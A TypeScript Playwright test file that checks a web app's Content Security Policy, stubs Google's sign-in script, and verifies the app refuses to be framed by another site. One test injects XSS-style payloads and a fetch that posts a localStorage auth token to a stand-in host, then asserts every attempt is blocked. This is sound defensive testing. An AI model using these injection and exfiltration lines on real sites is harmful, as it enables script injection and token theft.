import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished, test } from 'vitest'
import { startPortal } from './portal.ts'
import { openAs, openPage, readOnlyDemo } from './stage.ts'
import { listenForViolations } from './violations.ts'

const DESK = { viewport: { width: 1440, height: 900 } }

test('the page of the contract does not violate it', async () => {
  const { address } = readOnlyDemo()
  const page = await openPage(address, DESK)
  const violations = await listenForViolations(page)
  await page.goto('/app/docs/')
  await page.locator('.opblock-tag').first().click()
  await page.locator('.opblock-summary').first().click()
  await page.getByRole('button', { name: 'Try it out' }).waitFor()
  expect(violations).toEqual([])
})

test('Google’s button works under it', async () => {
  const portal = await startPortal({ google: true })
  const page = await openPage(portal.address, DESK)
  const violations = await listenForViolations(page)
  // What Google's script does to a page: a style sheet and a frame from its own place, calls to it, style attributes.
  await page.route('https://accounts.google.com/gsi/**', (route) => {
    const { pathname } = new URL(route.request().url())
    if (pathname === '/gsi/client') return route.fulfill({ contentType: 'text/javascript', body: GOOGLES_SCRIPT })
    if (pathname === '/gsi/style') return route.fulfill({ contentType: 'text/css', body: '.gsi { color: red }' })
    if (pathname === '/gsi/button') return route.fulfill({ contentType: 'text/html', body: 'Sign in with Google' })
    return route.fulfill({ json: {}, headers: { 'access-control-allow-origin': '*' } })
  })
  await page.goto('/login')
  await page.frameLocator('iframe').getByText('Sign in with Google').waitFor()
  await page.waitForLoadState('networkidle')
  expect(violations).toEqual([])
})

const DIRECTIVES_THAT_REFUSE = [
  'script-src',
  'script-src-elem',
  'script-src-attr',
  'frame-src',
  'object-src',
  'base-uri',
  'style-src-elem',
  'connect-src',
  'form-action',
]

test('markup that gets into a page runs nothing, and sends nothing away', async () => {
  const { address } = readOnlyDemo()
  const page = await openAs(address, 'demo-ada', DESK)
  const asked: string[] = []
  await page.route(/elsewhere\.example/, (route) => {
    asked.push(route.request().resourceType())
    return route.abort()
  })
  await page.goto('/home')
  await page.getByRole('heading', { level: 1 }).waitFor()
  const violations = await listenForViolations(page)
  await page.evaluate(() => {
    const add = (name: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(name), { textContent: text })
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    const place = document.createElement('div')
    document.body.append(place)
    place.innerHTML = `<img src="/nothing" onerror="globalThis.ran = 'an attribute'"><svg onload="globalThis.ran = 'svg'">`
    add('script', {}, "globalThis.ran = 'inline'")
    add('script', { src: 'https://elsewhere.example/script.js' })
    add('script', { src: 'https://accounts.google.com/other/client' })
    add('script', { src: 'data:text/javascript,globalThis.ran="data"' })
    add('script', { src: URL.createObjectURL(new Blob(["globalThis.ran = 'blob'"], { type: 'text/javascript' })) })
    add('iframe', { src: 'https://elsewhere.example/frame' })
    add('iframe', { srcdoc: '<script>parent.ran = "srcdoc"</script>' })
    add('object', { data: 'https://elsewhere.example/object' })
    add('base', { href: 'https://elsewhere.example/' })
    add('style', {}, 'body { display: none }')
    add('link', { rel: 'stylesheet', href: 'https://elsewhere.example/style.css' })
    add('a', { href: "javascript:globalThis.ran = 'a link'" }).click()
    const form = add('form', { action: 'https://elsewhere.example/form', method: 'post' }) as HTMLFormElement
    form.submit()
    setTimeout("globalThis.ran = 'a timer'", 0)
    fetch('https://elsewhere.example/call', { method: 'POST', body: localStorage.getItem('token') }).catch(
      () => undefined,
    )
    navigator.sendBeacon('https://elsewhere.example/beacon', 'x')
    new WebSocket('wss://elsewhere.example/')
  })
  // Each attempt is refused by its own directive; once all have been, nothing of them is still to come.
  await expect
    .poll(() => new Set(violations.map((violation) => violation.split(' ')[0])))
    .toEqual(new Set(DIRECTIVES_THAT_REFUSE))
  expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined()
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none')
  expect(new URL(page.url()).pathname).toBe('/home')
  expect(asked).toEqual([])
})

test('no other site can put our pages into a frame', async () => {
  const { address } = readOnlyDemo()
  const theirs = createServer((_, answer) => {
    answer.setHeader('content-type', 'text/html').end(`<iframe src="${address}/login"></iframe>`)
  }).listen(0, '127.0.0.1')
  onTestFinished(() => {
    theirs.close()
  })
  await new Promise((resolve) => theirs.once('listening', resolve))
  const page = await openPage(`http://localhost:${(theirs.address() as AddressInfo).port}`, DESK)
  const refused: string[] = []
  page.on('console', (message) => refused.push(message.text()))
  await page.goto('/')
  await page.waitForLoadState('networkidle')
  expect(refused.join()).toMatch(/frame-ancestors|X-Frame-Options/i)
  expect(await page.frames()[1]?.getByText('Member Login').count()).toBe(0)
})

const GOOGLES_SCRIPT = `
  globalThis.google = { accounts: { id: {
    initialize() {},
    renderButton(place) {
      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://accounts.google.com/gsi/style' })
      const frame = Object.assign(document.createElement('iframe'), { src: 'https://accounts.google.com/gsi/button' })
      frame.style.height = '44px'
      document.head.append(sheet)
      place.append(frame)
      fetch('https://accounts.google.com/gsi/status')
    },
  } } }`
